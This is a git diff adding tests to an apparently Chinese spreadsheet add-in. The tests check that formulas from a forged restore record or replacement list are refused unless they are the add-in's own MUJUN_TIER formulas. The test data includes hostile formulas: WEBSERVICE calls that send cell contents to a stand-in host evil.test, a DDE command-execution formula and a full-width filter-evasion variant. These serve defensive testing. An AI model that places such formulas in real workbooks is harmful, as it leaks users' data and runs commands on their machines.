@@ -86,3 +86,81 @@ describe('整本公式版 from the pane, and 恢复公式', () => {
     expect(pane.state().message?.code).toBe('restoreNothing');
   });
 });
+
+/** A workbook whose record names formulas that nobody here wrote. */
+async function forged(formulas: readonly string[], as: 'record' | 'list'): Promise<OpenedPane> {
+  const port = createMemoryPort({
+    calculate,
+    sheets: [
+      smallLedger({}),
+      ...(as === 'list' ? [{ name: '公式替换清单', cells: [['工作表', '单元格', '原公式', '现为', '依据']] }] : []),
+    ],
+  });
+  if (as === 'list') {
+    const { cells } = port.book.sheet('公式替换清单');
+    const line = (formula: string, row: number) => ['台账', `A${row + 2}`, formula, '数值，不随原表改变', ''];
+    formulas.forEach((formula, row) =>
+      line(formula, row).forEach((value, column) => cells.set(`${row + 1},${column}`, { value })),
+    );
+  }
+  const record = formulas.map((formula, row) => ({
+    ...{ sheet: '台账', area: { row: row + 1, column: 0, rows: 1, columns: 1 }, formula, kind: 'value', clause: '' },
+    ...{ written: [['']], shown: [['']] },
+  }));
+  const text = JSON.stringify(record).replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;');
+  if (as === 'record')
+    await port.putCustomXml('urn:mujun:replaced', `<replaced xmlns="urn:mujun:replaced">${text}</replaced>`);
+  return opened(port);
+}
+
+const FORGED = [
+  '=WEBSERVICE("http://evil.test/?d="&ENCODEURL(B3))',
+  '=HYPERLINK("http://evil.test","查看")',
+  "=cmd|'/c calc'!A0",
+  '=SUM(A1:A9)',
+  '=IF(MUJUN_TIER(B3,C3,"嵊州2021")="",WEBSERVICE("http://evil.test"),1)',
+  '=MUJUN_TIER(B3,C3,PY("x"))',
+  '=MUJUN_TIER(\'[a.xlsx]表\'!A1,C3,"嵊州2021")',
+  '=MUJUN_TIER([a]表!A1,C3,"嵊州2021")',
+  '=MUJUN_TIER(a.xlsx!税收,C3,"嵊州2021")',
+  '=MUJUN_TIER(某个名称,C3,"嵊州2021")',
+  '=MUJUN_TIER(mymacro(),C3,"嵊州2021")',
+  '=MUJUN_TIER(\'a.xlsm\'!macro(),C3,"嵊州2021")',
+  '=MUJUN_TIER(INDIRECT("[a.xlsx]S!A1"),C3,"嵊州2021")',
+  '=MUJUN_TIER(B3,C3,ＷＥＢＳＥＲＶＩＣＥ("http://evil.test"))',
+  '=MUJUN_TIER(B3,C3,_xlfn.COPILOT("x"))',
+];
+
+describe('a record that anybody may have written', () => {
+  it.each(['record', 'list'] as const)(
+    'of the %s: nothing but formulas of ours is entered, each named first',
+    async (as) => {
+      const own = '=IF(A1="","",MUJUN_TIER(台账!D2,台账!$C$2,亩均政策))';
+      const pane = await forged([...FORGED, own], as);
+      await pane.commands.checkRestore.run();
+      const { restore } = pane.state().share;
+      expect(restore?.entering).toEqual([expect.objectContaining({ address: `A${FORGED.length + 2}`, formula: own })]);
+      expect(restore?.refused.map(({ formula }) => formula)).toEqual(FORGED);
+      expect(restore?.count).toBe(1);
+      await pane.commands.restoreFunctions.run();
+      const entered = [...pane.port.book.sheet('台账').cells.values()].flatMap(({ formula }) => formula ?? []);
+      expect(entered.filter((formula) => formula !== '')).toEqual([own]);
+    },
+  );
+
+  it('修复公式 leaves formulas alone that call ours beside something foreign', async () => {
+    const port = createMemoryPort({ calculate, sheets: [smallLedger({}), { name: '汇算', cells: [] }] });
+    const held = ['=_xldudf_MUJUN_TIER(WEBSERVICE("http://evil.test"),1)', '=_xldudf_MUJUN_TIER(B3,C3,"嵊州2021")'];
+    held.forEach((formula, row) => port.book.put(port.book.sheet('汇算'), [row, 0], formula));
+    const pane = await opened(port);
+    await pane.commands.checkRepair.run();
+    expect(pane.state().share.repair?.map(({ entering, refused }) => [entering.length, refused.length])).toEqual([
+      [1, 1],
+    ]);
+    await pane.commands.repairFormulas.run();
+    expect([...port.book.sheet('汇算').cells.values()].map(({ formula }) => formula)).toEqual([
+      held[0],
+      '=MUJUN_TIER(B3,C3,"嵊州2021")',
+    ]);
+  });
+});
